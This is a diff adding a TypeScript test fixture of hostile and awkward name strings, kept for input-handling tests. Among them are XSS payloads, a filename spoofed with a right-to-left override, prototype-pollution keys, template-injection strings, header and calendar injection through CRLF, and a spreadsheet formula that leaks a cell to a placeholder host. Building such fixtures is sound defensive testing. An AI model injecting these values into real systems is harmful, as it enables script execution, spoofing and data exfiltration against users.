@@ -1,0 +1,25 @@
+/** Names and words as attackers, accidents and many languages write them. By what is hard about them. */
+export const hostileWords: Record<string, string> = {
+  script: '<script>globalThis.ran=1</script>',
+  'an image that runs': '<img src=x onerror="globalThis.ran=1">',
+  'the end of an attribute':
+    '"><svg onload="globalThis.ran=1"><a href="javascript:globalThis.ran=1">x</a>',
+  'a turned text': '\u202Eavlis ana\u202D gnp.exe',
+  'isolates that never end': '\u2066\u2067\u2068Ana',
+  'a family': 'Ana 👩🏽‍👩🏻‍👧🏿‍👦 🏳️‍🌈',
+  'a zero byte': 'Ana\u0000Silva\u0007\u001b[31m',
+  'half a pair': 'Ana \ud83d and \udc4b',
+  'five hundred marks': `A${'\u0301\u0323'.repeat(250)}na`,
+  'ten thousand letters': 'Llanfair'.repeat(1250),
+  'a long line': `${'no blank here '.repeat(3)}${'W'.repeat(300)}`,
+  'a key by birth': '__proto__',
+  'another one': 'constructor',
+  'a template': '{{7*7}} ${globalThis.ran=1} <%= 7*7 %> {name} {0}',
+  'a placeholder': '$1 $& $$ $` %s %1$s &amp; &lt;b&gt;',
+  'one letter': 'é',
+  Arabic: 'عائشة بنت محمد (١٢٣)',
+  'Hebrew with Latin': 'דנה Levi 123 — !',
+  'lines and tabs': 'Ana\nSilva\tBcc: x@y.example\r\nX: 1',
+  'a formula': '=HYPERLINK("http://x.example?"&A1,"Ana")',
+  'a command for a calendar': 'Ana\r\nEND:VEVENT\r\nATTENDEE:mailto:x@y.example',
+};
